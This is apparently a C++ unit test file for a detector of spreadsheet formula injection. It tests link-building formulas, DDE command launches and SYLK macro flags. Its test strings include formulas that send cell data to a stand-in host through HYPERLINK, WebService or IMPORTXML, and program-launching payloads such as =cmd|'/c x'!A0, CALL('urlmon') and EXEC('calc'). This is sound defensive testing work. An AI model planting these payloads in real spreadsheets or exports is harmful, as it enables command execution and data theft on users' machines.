// SPDX-License-Identifier: MIT
#include "walk/leaf/table_formulas.h"

#include <boost/test/unit_test.hpp>
#include <string_view>

BOOST_AUTO_TEST_CASE(formulas_make_links_of_more_than_one_text) {
  for (const std::string_view text :
       {"", "(", "HYPERLINK", "=HYPERLINK(\"http://h/\")", "=HYPERLINK ( \"http://h/\" , A1)",
        "\"=HYPERLINK(\"\"http://h/\"\",\"\"go\"\")\"", "=HYPERLINK(\"http://h/\";A1)",
        "=HYPERLINK()", "=MYHYPERLINK(A1)", "=HYPERLINK2(A1)", "=X.HYPERLINK(A1)", "=SUM(A1)",
        "HYPERLINK A1 (B1)"})
    BOOST_TEST(!basewalk::makes_links(text), text);
  for (const std::string_view text :
       {"=HYPERLINK(A1)", "=hyperlink( A1)", "=HYPERLINK\t(\"http://h/\"&A1)", "=SUM(1,IMAGE(A1))",
        "+WebService(\"http://\"&\"h\")", "=HYPERLINK(\"http://h/", "=HYPERLINK(\"http://h/\"",
        "\"=HYPERLINK(\"\"http://\"\"&A1)\"", "\"=HYPERLINK(\"\"http://\"h\"\")\"",
        "=HYPERLINK(\"a\")=HYPERLINK((\"a\"))", "=IMPORTXML(\"http://h/\"\"\",A1)",
        "=_xlfn.IMAGE(A1)", "=LIEN_HYPERTEXTE(A1)", "=hiper\u0142\u0105cze(A1)",
        "=\u0433\u0438\u043F\u0435\u0440\u0441\u0441\u044B\u043B\u043A\u0430(A1)",
        "=colleg.ipertestuale(A1)", "HYPERLINK(CONCAT(\"a\"))", "=Webdienst(\"http\"&\"://h/\")",
        "ID;P\nC;X1;K0;EHYPERLINK(\"http\"&\"://h/\")"})
    BOOST_TEST(basewalk::makes_links(text), text);
}

BOOST_AUTO_TEST_CASE(formulas_start_programs) {
  for (const std::string_view text :
       {"", "|", "=|'/c x'!A0", "cmd|'/c x'!A0", "a,b|c!d", "=cmd|'/c x'A0", "=cmd|'/c x!A0",
        "=cmd|/c x!A0", "=cmd|x", "=cmd|x! A0", "=cmd|x!", "=cmd||x!A0", "=cmd|", "=cmd|x",
        "=cmd|'x'", "=cmd|'x'!", "ID;P\nC;X1;Kcmd|'x'!A0", "C;Ecmd|x!A0"})
    BOOST_TEST(!basewalk::has_command(text), text);
  for (const std::string_view text : {"=cmd|'/c x'!A0",
                                      "a,=cmd|' /C x'!A0",
                                      "\"=cmd|' /C x'!A0\"",
                                      "a;+cmd|x!A0",
                                      " -1+cmd |'x'!A0",
                                      "@SUM(1,1)*cmd|'x'!A0",
                                      "a\t=1+\ncmd|'a,b\nc'!A0",
                                      "=a|b\n,=cmd|'x'!A0",
                                      "ID;P\nC;X1;Ecmd|'x'!A0",
                                      "=\"|\"&cmd|'x'!A0",
                                      "sep=^\na^=cmd|'x'!A0",
                                      "x=cmd|'/c x'!A0",
                                      "='cmd|/c x'!A0",
                                      "a,=RTD(\"x\",\"h\",\"y\")",
                                      "=DDE(\"x\";\"y\";\"z\")",
                                      "\"=CALL(\"\"urlmon\"\",A1)\"",
                                      "=IF(1,rtd(A1,A2))",
                                      "=1+SQL.REQUEST (\"DSN=x\")",
                                      "ID;P\nC;X1;K0;EEXEC(\"calc\")",
                                      "ID;P\nC;X1;K0;ERUN(A1)"})
    BOOST_TEST(basewalk::has_command(text), text);
  // Words, and what no table but SYLK runs.
  for (const std::string_view text :
       {"Call (555) 0100", "a,- call (555)", "DDT,DDE (ppm)", "=== x ===\n,RTD (a)",
        "a,=EXEC(\"calc\")", "a,b=RTDX(\"a\")", "it's|'!x", "C;X1;K0;EEXEC(\"calc\")"})
    BOOST_TEST(!basewalk::has_command(text), text);
}

BOOST_AUTO_TEST_CASE(a_sheet_of_macros_says_so) {
  for (const std::string_view text : {"ID;P\nO;E\n", "ID;P\r\nO;L;E;D\r\n", "ID;P\rO;V0;E"})
    BOOST_TEST(basewalk::has_macros(text), text);
  for (const std::string_view text :
       {"", "O;E\n", "ID;P\nO;L;D\nC;E", "ID;P\nC;O;E\n", "ID;P\nO;EX\n"})
    BOOST_TEST(!basewalk::has_macros(text), text);
}
